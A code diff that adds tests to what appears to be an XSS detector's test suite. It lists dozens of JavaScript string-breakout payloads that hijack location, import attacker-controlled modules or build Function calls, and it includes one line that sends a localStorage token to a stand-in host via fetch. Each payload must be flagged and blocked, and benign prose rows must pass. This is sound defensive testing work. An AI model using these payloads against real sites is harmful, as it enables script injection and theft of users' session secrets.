@@ -800,3 +800,60 @@ describe('xss: a JavaScript entity needs its closing brace', () => {
   });
   it('gives the same findings split anywhere', () => { expectSameWhenSplit(d, [...clean, ...hits], 'form'); });
 });
+
+// Session 20 (red team rt23, repros 07 and 15): after a quote or backtick leaves a JS string (or '${' opens a template's
+// expression), a module loaded from a computed specifier, location assigned in any spelling (spaced '=', an index, a
+// destructuring, a member of any object, comments between), location's navigating methods handed on, location written by
+// Object.assign / Reflect.set, Function built through Reflect or called through .call, and a stored secret read: each runs
+// the attacker's script (window.name, the URL's fragment) in the page, confirmed in headless Chromium. ssjs.ts reads the
+// value after the break-out to its end. In a query or form '+' is a space (' Object.assign(...) is a syntax error in the
+// page), so there the payloads carry it as %2B. The hits fail before; the clean rows name the same words in prose, or in
+// code that leaves no string.
+describe('xss: navigation and module sinks after leaving a JS string (rt23)', () => {
+  const hits = [
+    // window.name (set by the attacker's <iframe name=...> or window.open)
+    "';import(name)//", "'-import(name)-'", '"-import(name)-"', '${import(name)}', '${location=name}', '${location.assign(name)}',
+    "';location = name//", "';[location]=[name]//", "';(location=name)//", "';document.defaultView.location=name//", "'/**/;location=name//",
+    "'\n;location=name\n'", "';location['href']=name//", "';location.assign.call(location,name)//", "'-[name].forEach(location.assign,location)-'",
+    "'+Object.assign(location,{href:name})+'", "'+Reflect.construct(Function,[name])()+'",
+    // self-contained: a script URL built from pieces, a stored token sent away
+    "';location = 'jav'+'ascript:'+'parent.document.title=1'//", "'+fetch('//e.test/?'+localStorage.token)+'",
+    // code from the URL's fragment (never sent to the server)
+    "';import(document.URL.split('#')[1])//", "';import(document.documentURI.split('#')[1])//", "';import((location+'').split('#')[1])//",
+    "';location = decodeURI(document.URL.split('#')[1])//", "';[location]=[document.URL.split('#')[1]]//",
+    // the same sinks spelled otherwise
+    "';location/**/=name//", "';import (name)//", "';import(''+name)//", "';import(`${name}`)//", "'\nlocation=name\n'",
+    "'\nx=1;location = name\n'", "'\nlocation = name\n'", "x'\nimport(name)\n'", "'/**/;with(location)href=name//",
+    "${open(name,'_self')}", "'+open(name,'_self')+'", "';({location}={location:name})//", "'?import(name):'", "',location=name,'",
+    "' in import(name)//", "'!=import(name)!='", "'-import(s)-'", "',`${location = name}`", "'+Reflect.set(location,'href',name)+'", "';(Function)(name)()//",
+    "';Function.call(0,name)()//", "';x=sessionStorage['k']//", "`;location = name;`", "'});location = name//",
+  ];
+  const contexts = ['query', 'form', 'json'] as const;
+  // (a query's or form's '+' is a space: the attacker writes %2B)
+  const asSent = (input: string, context: string) => (context === 'json' ? input : input.replace(/\+/g, '%2B'));
+  it.each(hits.flatMap((h) => contexts.map((c) => [h, c] as const)))('%j in %s is a js-breakout', (input, context) => {
+    const r = d.scan(asSent(input, context), { context });
+    expect(ruleIds(r)).toContain('xss.js-breakout');
+    expect(r.blocked).toBe(true);
+  });
+  const clean = [
+    'Import (name) from file', 'Import(name) from file', 'location = Paris', 'set location = name of city', 'the \'old\' location = Paris',
+    '"quoted"; then location (x)', "He said 'yes'; location: Paris", "a 'b' - location = c", '${location}', '`${import.meta.url}`',
+    "x = 'a'; if (location == b) go()", "'x'; a.import (y)", "it's -5; location=3", "rock'n'roll; location = home",
+    "He said 'hi'\nLocation = Paris", "Say 'hi'\nimport (name) from file", "';import('./m.js')//", "';import('./locales/'+lang)//",
+    "The `mergeArray`-Function needs to return the merging function, which accepts", "(like `*/*` or `*/json`). If a function, the `type`",
+    "'x'; location => y", 'Click "Save"; the location is kept', "'hi'\nLocation = Paris", "Menu 'File'-open", "'a'-b, xhr.open(x)", "Did he say 'yes'? Location = Paris", "'a', 'b', location = here",
+    "the word 'cat' in English", "the word 'cat' in import(s) and export(s)", "ws.on('open', function open() {",
+  ];
+  it.each(clean.flatMap((h) => contexts.map((c) => [h, c] as const)))('%j in %s stays clean', (input, context) => {
+    expect(d.scan(input, { context }).blocked).toBe(false);
+  });
+  it('spans the finding from the break-out to the sink', () => {
+    const input = 'q=1 ${location=name}';
+    const r = d.scan(input, { context: 'json' });
+    expect(r.threats.find((t) => t.ruleId === 'xss.js-breakout')).toMatchObject({ offset: 4, length: 15 });
+  });
+  it('gives the same findings split anywhere', () => {
+    for (const c of contexts) expectSameWhenSplit(d, [...hits.map((h) => asSent(h, c)), ...clean], c);
+  });
+});
